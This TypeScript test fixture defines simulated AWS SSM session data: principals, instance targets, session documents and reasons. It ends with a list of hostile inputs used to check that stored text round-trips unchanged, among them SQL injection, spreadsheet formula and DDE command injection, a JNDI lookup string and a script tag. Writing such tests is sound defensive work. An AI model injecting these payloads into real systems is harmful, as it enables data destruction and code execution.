import { createRandom } from './random';

// The fixed vocabulary of the world: who connects, to which targets, with which documents and reasons.

/** A principal as in Owner, and the name at the beginning of its SessionIds. */
export interface Owner {
  readonly arn: string;
  readonly name: string;
}

const PEOPLE = [
  ...['alice.smith', 'bob.jones', 'carol.nguyen', 'dave.miller', 'erin.garcia', 'frank.mueller', 'grace.okafor'],
  ...['heidi.larsen', 'ivan.petrov', 'judy.chen', 'karl.weber', 'laura.rossi', 'mallory.dupont', 'nina.kowalska'],
  ...['oscar.silva', 'peggy.brown', 'quentin.leroy', 'rosa.fernandez', 'sybil.clarke', 'trent.yamada'],
];
const POWER_USER = 'PowerUser_0f1e2d3c4b5a6978';
const ADMINISTRATOR = 'AdministratorAccess_8796a5b4c3d2e1f0';

/** The busiest first: SSO users (some with two permission sets), roles, shared names, users, oddities, root. */
export function owners(accountId: string): readonly Owner[] {
  const sso = (person: string, set: string): Owner => ({
    arn: `arn:aws:sts::${accountId}:assumed-role/AWSReservedSSO_${set}/${person}@example.com`,
    name: `${person}@example.com`,
  });
  const of = (arn: string, name = arn.slice(arn.lastIndexOf('/') + 1)): Owner => ({ arn, name });
  return [
    ...PEOPLE.map((person) => sso(person, POWER_USER)),
    ...PEOPLE.slice(0, 5).map((person) => sso(person, ADMINISTRATOR)),
    of(`arn:aws:sts::${accountId}:assumed-role/ops/botocore-session-1772700001`),
    of(`arn:aws:sts::${accountId}:assumed-role/ci-deploy/GitHubActions`),
    of(`arn:aws:sts::${accountId}:assumed-role/BreakGlass/alice.smith@example.com`),
    of(`arn:aws:sts::${accountId}:assumed-role/ops/odd=name,with.every+legal@sign-`),
    of(`arn:aws:sts::${accountId}:assumed-role/AWSServiceRoleForECS/ecs-execute-command`),
    of(`arn:aws:iam::${accountId}:user/legacy-admin`),
    of(`arn:aws:iam::${accountId}:user/ops/night.shift`),
    of(`arn:aws-cn:sts::${accountId}:assumed-role/Operator/li.wei`),
    of(`arn:aws-us-gov:sts::${accountId}:assumed-role/Operator/sam.reed`),
    of(`aws:sts::${accountId}:assumed-role/Former/no.prefix`),
    of(`arn:aws:iam::${accountId}:root`, 'root'),
  ];
}

/** Nodes, the busiest first, then managed nodes, containers, SageMaker instances, and kinds that do not exist yet. */
export const TARGETS: readonly string[] = [
  ...Array.from({ length: 60 }, (_, i) => `i-0${hexDigits(i, 16)}`),
  ...Array.from({ length: 12 }, (_, i) => `mi-0${hexDigits(100 + i, 16)}`),
  ...Array.from({ length: 8 }, (_, i) => {
    const task = hexDigits(200 + i, 32);
    return `ecs:payments_${task}_${task}-${1_527_056_392 + i}`;
  }),
  'sagemaker-cluster:a1b2c3d4e5f6_controllers-i-0123456789abcdef0',
  'sagemaker-cluster:a1b2c3d4e5f6_workers-i-0fedcba9876543210',
  'rds:db-ABCDEFGHIJKLMNOPQRSTUVWXYZ',
  'future-kind/é €:42',
];

/** Terminated nodes. SSM keeps their sessions open. */
export const TERMINATED_TARGETS: readonly string[] = [
  'i-0dead000000000001',
  'i-0dead000000000002',
  'i-0dead000000000003',
];

export const SHELL_DOCUMENTS: readonly string[] = ['SSM-SessionManagerRunShell', 'AWS-StartInteractiveCommand'];
export const PORT_DOCUMENTS: readonly string[] = [
  'AWS-StartPortForwardingSession',
  'AWS-StartSSHSession',
  'AWS-StartPortForwardingSessionToRemoteHost',
  'Acme-DatabaseTUNNEL',
];

export const REASONS: readonly string[] = [
  'deploy hotfix',
  'OPS-{n}',
  'INC{n}: disk full on /var',
  'CHG-{n} planned maintenance',
  'looking at logs',
  'help a customer, see JIRA PAY-{n}',
];

/** Texts that people and attackers type, and texts that break naive file formats. Each must come back unchanged. */
export const HOSTILE_TEXTS: readonly string[] = [
  'she said "now", he said \'later\'',
  'C:\\Users\\ops\\n\\u0041\\',
  'line one\nline two\r\nline three\ttabbed',
  'separators \u2028 and \u2029 and \u0085 and \u0000 and \u001f',
  'emoji 👩‍💻🔥, accents éàü, 漢字, combining é',
  "'; DROP TABLE history_records; --",
  '=HYPERLINK("http://example.com?x="&A1,"click")',
  '+1+cmd|\'/c calc\'!A0,"a","b"',
  '\u202egnirts desrever\u202c and שלום עולם',
  '<script>alert(1)</script>&amp;',
  '{"session_id":"forged","extra":null}',
  '${jndi:ldap://example.com/a} %s %n {{7*7}}',
  '\ufeffbyte order mark, zero\u200bwidth, nbsp\u00a0',
  'null',
  '   ',
  'x'.repeat(256),
];

function hexDigits(seed: number, length: number): string {
  const random = createRandom(seed);
  return Array.from({ length }, () => Math.floor(random() * 16).toString(16)).join('');
}
